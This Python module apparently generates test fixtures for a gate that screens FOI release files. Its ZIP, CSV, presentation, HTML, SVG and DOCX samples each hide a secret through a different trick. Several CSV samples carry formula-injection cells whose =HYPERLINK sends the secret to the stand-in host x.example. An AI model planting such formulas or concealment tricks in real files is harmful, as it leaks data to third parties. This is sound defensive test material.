# ruff: noqa: E501 - the corpus is written as literal XML, HTML and PDF operators, kept on one line each
"""ZIP archives, CSV files, and files the gate must refuse (presentations, RTF, HTML, SVG, XML, odd packages)."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

from common import FIXED_ZIP_TIME, Spec

CSV_ROWS = "Case,Outcome,Days\r\nFOI-0001,Released,12\r\nFOI-0002,Refused,20\r\n"


def _zip(
    members: list[tuple[str, bytes]], comment: bytes = b"", member_comment: bytes = b"", extra: bytes = b""
) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, FIXED_ZIP_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            if member_comment and name.endswith(".csv"):
                info.comment = member_comment
            if extra and name.endswith(".csv"):
                info.extra = extra
            archive.writestr(info, data)
        archive.comment = comment
    return buffer.getvalue()


def plain_members() -> list[tuple[str, bytes]]:
    return [
        ("response/summary.csv", CSV_ROWS.encode()),
        ("response/readme.txt", b"Released under FOIA 2000.\r\n"),
    ]


def zip_trick(kind: str):
    def build(path: Path, secret: str, visible: list[str]) -> None:
        members = plain_members()
        body = f"Case,Note\r\nFOI-0003,{secret}\r\n".encode()
        if kind == "duplicate":
            import warnings

            warnings.simplefilter("ignore")
            data = _zip([("response/summary.csv", body), *members])
        elif kind == "comment":
            data = _zip(members, comment=secret.encode())
        elif kind == "member_comment":
            data = _zip(members, member_comment=secret.encode())
        elif kind == "extra_field":
            payload = secret.encode()
            data = _zip(members, extra=struct.pack("<HH", 0xCAFE, len(payload)) + payload)
        elif kind == "after_end":
            data = _zip(members) + b"\r\n" + secret.encode()
        elif kind == "before_start":
            data = _zip(members)
            data = b"MZ stub " + secret.encode() + b"\x00" * 8 + data
        elif kind == "folder_data":
            data = _zip([("response/old/", body), *members])
        elif kind == "macosx":
            data = _zip([*members, ("__MACOSX/response/._summary.csv", b"\x00\x05\x16\x07" + body)])
        elif kind == "ds_store":
            data = _zip(
                [*members, ("response/.DS_Store", b"\x00\x00\x00\x01Bud1" + secret.encode("utf-16-be"))]
            )
        elif kind == "local_only":
            data = _local_only(members, ("response/notes.csv", body))
        elif kind == "nested_xlsx":
            from gen_xlsx import hidden_sheet

            inner = path.with_suffix(".inner.xlsx")
            hidden_sheet("hidden")(inner, secret, ["Released in full"])
            data = _zip([*members, ("response/table.xlsx", inner.read_bytes())])
            inner.unlink()
        elif kind == "nested_zip":
            inner = _zip([("deep/notes.csv", body)], comment=b"")
            middle = _zip([("inner.zip", inner)])
            data = _zip([*members, ("response/archive.zip", middle)])
        elif kind == "rtf_member":
            data = _zip(
                [
                    *members,
                    (
                        "response/letter.rtf",
                        b"{\\rtf1\\ansi Released.\\par{\\v " + secret.encode() + b"}\\par}",
                    ),
                ]
            )
        elif kind == "stored_bad_crc":
            data = _zip([*members, ("response/notes.csv", body)])
            data = data.replace(body[:0] + b"PK\x01\x02", b"PK\x01\x02", 1)
        else:
            raise ValueError(kind)
        path.write_bytes(data)

    return build


def _local_only(members: list[tuple[str, bytes]], hidden: tuple[str, bytes]) -> bytes:
    """A local file entry the central directory does not list (readers using the directory never see it)."""
    visible_zip = _zip(members)
    name, data = hidden
    packed = data  # stored, so the secret is in the bytes as written
    local = (
        struct.pack(
            "<4s5H3L2H",
            b"PK\x03\x04",
            20,
            0,
            0,
            0,
            0x21,
            zlib.crc32(data),
            len(packed),
            len(data),
            len(name),
            0,
        )
        + name.encode()
        + packed
    )
    end = visible_zip.rfind(b"PK\x05\x06")
    directory_at = struct.unpack_from("<L", visible_zip, end + 16)[0]
    head, rest = visible_zip[:directory_at], visible_zip[directory_at:]
    # shift the central directory offset in the end record by the inserted bytes
    rest = bytearray(rest)
    end_at = len(rest) - (len(visible_zip) - end)
    struct.pack_into("<L", rest, end_at + 16, directory_at + len(local))
    return head + local + bytes(rest)


def csv_file(text: str, encoding: str = "utf-8"):
    def build(path: Path, secret: str, visible: list[str]) -> None:
        path.write_bytes(text.replace("{secret}", secret).encode(encoding))

    return build


def pptx(kind: str):
    def build(path: Path, secret: str, visible: list[str]) -> None:
        from pptx import Presentation
        from pptx.util import Inches

        deck = Presentation()
        slide = deck.slides.add_slide(deck.slide_layouts[1])
        slide.shapes.title.text = visible[0]
        slide.placeholders[1].text = visible[1]
        if kind == "notes":
            slide.notes_slide.notes_text_frame.text = secret
        elif kind == "offslide":
            box = slide.shapes.add_textbox(Inches(12), Inches(1), Inches(3), Inches(1))
            box.text_frame.text = secret
        elif kind == "hidden":
            second = deck.slides.add_slide(deck.slide_layouts[1])
            second.shapes.title.text = secret
            second._element.set("show", "0")
        deck.core_properties.author = ""
        deck.save(str(path))

    return build


def text_file(content: str):
    def build(path: Path, secret: str, visible: list[str]) -> None:
        path.write_bytes(content.replace("{secret}", secret).replace("{v0}", visible[0]).encode())

    return build


def flagged_docx(member_name: str):
    """A DOCX whose [Content_Types].xml entry claims to be encrypted (general-purpose flag bit 0)."""

    def build(path: Path, secret: str, visible: list[str]) -> None:
        from gen_docs import docx_with, para, run

        docx_with(para(run("{secret}", "<w:vanish/>")))(path, secret, visible)
        data = bytearray(path.read_bytes())
        name = member_name.encode()
        for signature, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            at = data.find(signature)
            while at != -1:
                name_at = at + (30 if signature == b"PK\x03\x04" else 46)
                length = struct.unpack_from("<H", data, at + (26 if signature == b"PK\x03\x04" else 28))[0]
                if bytes(data[name_at : name_at + length]) == name:
                    flags = struct.unpack_from("<H", data, at + flag_at)[0]
                    struct.pack_into("<H", data, at + flag_at, flags | 1)
                at = data.find(signature, at + 4)
        path.write_bytes(bytes(data))

    return build


def polyglot_docx_odt():
    """A DOCX that also carries an ODF mimetype and content.xml: ODF readers and Word see different documents."""

    def build(path: Path, secret: str, visible: list[str]) -> None:
        from gen_docs import docx_with, para, run

        docx_with(para(run("{secret}")))(path, secret, visible)
        from common import rezip

        content = (
            '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
            'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
            'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body>'
            f"<office:text><text:p>{visible[0]}</text:p></office:text></office:body></office:document-content>"
        )
        rezip(
            path,
            {},
            {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": content.encode()},
        )

    return build


HTML_HIDDEN = (
    "<!DOCTYPE html><html><head><title>Response</title></head><body><p>{v0}</p>"
    '<p style="display:none">{secret}</p><!-- reviewer: {secret} --></body></html>'
)
SVG_OFFCANVAS = (
    '<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg" width="400" height="100">'
    '<text x="10" y="30">{v0}</text><text x="900" y="30">{secret}</text>'
    '<text x="10" y="60" fill="#fff">{secret}</text></svg>'
)
XML_2003 = (
    '<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" '
    'xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="Requests"><Table><Row><Cell>'
    '<Data ss:Type="String">{v0}</Data></Cell></Row></Table></Worksheet><Worksheet ss:Name="Hidden">'
    '<Table><Row><Cell><Data ss:Type="String">{secret}</Data></Cell></Row></Table><WorksheetOptions '
    'xmlns="urn:schemas-microsoft-com:office:excel"><Visible>SheetHidden</Visible></WorksheetOptions></Worksheet></Workbook>'
)


def specs(batch: str) -> list[Spec]:
    t = batch == "tuning"
    s: list[Spec] = []
    zvis = ["FOI-0001", "Released"]

    def leak(
        name: str, fmt: str, cls: str, trick: str, build, tool: str = "hand-zip", vis=None, style="dash"
    ) -> None:
        s.append(
            Spec(
                name,
                fmt,
                "leaky",
                cls,
                trick,
                tool,
                build=build,
                visible=list(vis if vis is not None else zvis),
                tag=style,
            )
        )

    zips_t = [
        ("duplicate", "Two members named response/summary.csv: the first holds the secret."),
        ("comment", "ZIP archive comment."),
        ("member_comment", "Central-directory comment on a member."),
        ("extra_field", "Private extra field (0xCAFE) on a member."),
        ("after_end", "Bytes after the end-of-directory record."),
        ("before_start", "Bytes before the first local header (self-extractor stub)."),
        ("folder_data", "A folder entry (name ending /) that carries data."),
        ("macosx", "__MACOSX AppleDouble resource member."),
        ("ds_store", ".DS_Store member (UTF-16 text)."),
        ("local_only", "A local entry the central directory does not list."),
        ("nested_xlsx", "An XLSX with a hidden sheet inside the ZIP."),
        ("rtf_member", "An RTF member with hidden (\\v) text."),
    ]
    zips_b = [
        ("extra_field", "Private extra field on a member."),
        ("local_only", "Local entry missing from the directory."),
        ("duplicate", "Duplicate member names."),
        ("after_end", "Data after the end record."),
    ]
    for kind, trick in zips_t if t else zips_b:
        leak(
            f"{'' if t else 'b_'}zip_{kind}.zip",
            "zip",
            "zip.structure",
            trick,
            zip_trick(kind),
            tool="zipfile" if kind not in ("local_only", "before_start") else "hand-zip",
        )
    # CSV
    cvis = ["FOI-0001", "Released"]
    if t:
        leak(
            "csv_hyperlink_semicolon_first.csv",
            "csv",
            "csv.formula",
            "First line has semicolons; the rest is comma-separated with a =HYPERLINK whose URL holds the secret.",
            csv_file(
                'Case;Outcome\r\nFOI-0001,Released\r\nFOI-0002,"=HYPERLINK(""https://x.example/{secret}"",""Details"")"\r\n'
            ),
            tool="hand-csv",
            vis=cvis,
        )
        leak(
            "csv_formula_leading_space.csv",
            "csv",
            "csv.formula",
            "A formula after a leading space and tab.",
            csv_file(
                'Case,Outcome\r\nFOI-0001,Released\r\nFOI-0002," \t=HYPERLINK(""https://x.example/{secret}"",""More"")"\r\n'
            ),
            tool="hand-csv",
            vis=cvis,
        )
        leak(
            "csv_utf16_formula.csv",
            "csv",
            "csv.formula",
            "UTF-16 CSV (Excel 'Unicode text') with a formula cell.",
            csv_file(
                '\ufeffCase\tOutcome\r\nFOI-0001\tReleased\r\nFOI-0002\t=HYPERLINK("https://x.example/{secret}","More")\r\n',
                "utf-16-le",
            ),
            tool="hand-csv",
            vis=cvis,
        )
        leak(
            "csv_dde_at.csv",
            "csv",
            "csv.formula",
            "@SUM formula (Lotus-style) carrying the secret as a string.",
            csv_file('Case,Outcome\r\nFOI-0001,Released\r\nFOI-0002,"@IF(1,""Released"",""{secret}"")"\r\n'),
            tool="hand-csv",
            vis=cvis,
        )
        leak(
            "csv_phone_bracketed.csv",
            "csv",
            "csv.personal",
            "A bracketed, hyphenated UK phone number (personal data).",
            csv_file("Case,Outcome,Contact\r\nFOI-0001,Released,{secret}\r\n"),
            tool="hand-csv",
            vis=cvis,
        )
        s[-1].secret = "(0161) 496-0731"
        leak(
            "csv_email_lower.csv",
            "csv",
            "csv.personal",
            "A lower-case e-mail address of a private person.",
            csv_file("Case,Outcome,Contact\r\nFOI-0001,Released,{secret}\r\n"),
            tool="hand-csv",
            vis=cvis,
        )
        s[-1].secret = "jo.bloggs.7731@example.co.uk"
    else:
        leak(
            "b_csv_hyperlink_tab_first.csv",
            "csv",
            "csv.formula",
            "First line tab-separated, rest commas, with a =HYPERLINK.",
            csv_file(
                'Case\tOutcome\r\nFOI-0001,Released\r\nFOI-0002,"=HYPERLINK(""https://x.example/{secret}"",""Link"")"\r\n'
            ),
            tool="hand-csv",
            vis=cvis,
        )
        leak(
            "b_csv_phone_dotted.csv",
            "csv",
            "csv.personal",
            "Phone number written +44 (0)20 7946-0958.",
            csv_file("Case,Outcome,Contact\r\nFOI-0001,Released,{secret}\r\n"),
            tool="hand-csv",
            vis=cvis,
        )
        s[-1].secret = "+44 (0)20 7946-0958"
    # must be refused
    pvis = ["Quarterly figures", "Requests received"]
    det = [
        ("pptx_notes.pptx", "pptx", "Speaker notes hold the secret.", pptx("notes"), "python-pptx"),
        (
            "pptx_offslide.pptx",
            "pptx",
            "Text box placed beyond the slide's right edge.",
            pptx("offslide"),
            "python-pptx",
        ),
        ("pptx_hidden_slide.pptx", "pptx", "A hidden slide (show=0).", pptx("hidden"), "python-pptx"),
        (
            "html_display_none.html",
            "html",
            "HTML with display:none and a comment.",
            text_file(HTML_HIDDEN),
            "hand-html",
        ),
        (
            "html_padded_start.html",
            "html",
            "HTML page that starts with 9 KB of blank lines (sniffed as text).",
            text_file("\r\n" * 4600 + HTML_HIDDEN),
            "hand-html",
        ),
        (
            "svg_offcanvas.svg",
            "svg",
            "SVG with text off the canvas and white text.",
            text_file(SVG_OFFCANVAS),
            "hand-svg",
        ),
        (
            "excel2003.xml",
            "xml",
            "Excel 2003 XML workbook with a hidden worksheet.",
            text_file(XML_2003),
            "hand-xml",
        ),
        (
            "docx_encrypted_flag.docx",
            "docx",
            "[Content_Types].xml member flagged as encrypted.",
            flagged_docx("[Content_Types].xml"),
            "hand-zip",
        ),
        (
            "polyglot_docx_odt.docx",
            "docx",
            "DOCX that also has an ODF mimetype/content.xml showing other text.",
            polyglot_docx_odt(),
            "hand-zip",
        ),
        (
            "html_as_csv.csv",
            "csv",
            "An HTML page named .csv with a hidden paragraph.",
            text_file(HTML_HIDDEN),
            "hand-html",
        ),
    ]
    if not t:
        det = [
            (
                "b_pptx_notes_table.pptx",
                "pptx",
                "Speaker notes on a second slide.",
                pptx("notes"),
                "python-pptx",
            ),
            ("b_svg_white.svg", "svg", "SVG with white text.", text_file(SVG_OFFCANVAS), "hand-svg"),
            (
                "b_html_comment.htm",
                "html",
                "HTML comment with the secret.",
                text_file(HTML_HIDDEN),
                "hand-html",
            ),
        ]
    for name, fmt, trick, build, tool in det:
        leak(
            name,
            fmt,
            "detect",
            trick,
            build,
            tool=tool,
            vis=pvis if fmt == "pptx" else ["Quarterly figures" if fmt == "pptx" else pvis[0]],
        )
    # clean
    prefix = "" if t else "b_"
    cleans = [
        ("zip_clean.zip", "zip", lambda p, s_, v: p.write_bytes(_zip(plain_members())), "zipfile", zvis),
        ("csv_clean.csv", "csv", csv_file(CSV_ROWS + "FOI-0003,Released,-5\r\n"), "hand-csv", cvis),
    ]
    if t:
        cleans += [
            (
                "zip_clean_nested.zip",
                "zip",
                zip_trick("nested_zip"),  # plain CSV two archives down: nothing hidden, must pass
                "zipfile",
                zvis,
            ),
            (
                "zip_clean_folders.zip",
                "zip",
                lambda p, s_, v: p.write_bytes(_zip([("response/", b""), *plain_members()])),
                "zipfile",
                zvis,
            ),
            (
                "csv_clean_semicolon.csv",
                "csv",
                csv_file(
                    "sep=;\r\nCase;Outcome;Cost\r\nFOI-0001;Released;12,50\r\nFOI-0002;Refused;-3,00\r\n"
                ),
                "hand-csv",
                cvis,
            ),
            (
                "csv_clean_bom.csv",
                "csv",
                csv_file(
                    '\ufeffCase,Outcome,Ref\r\nFOI-0001,Released,REF-2024-001\r\nFOI-0002,"Refused, s40",REF-2024-002\r\n'
                ),
                "hand-csv",
                cvis,
            ),
            (
                "csv_clean_negative.csv",
                "csv",
                csv_file("Case,Outcome,Change\r\nFOI-0001,Released,-12.5%\r\nFOI-0002,Refused,+3\r\n"),
                "hand-csv",
                cvis,
            ),
        ]
    for name, fmt, build, tool, vis in cleans:
        s.append(
            Spec(
                prefix + name,
                fmt,
                "clean",
                f"{fmt}.clean",
                f"{tool} {fmt.upper()} that must pass.",
                tool,
                build=build,
                visible=list(vis),
            )
        )
    return s
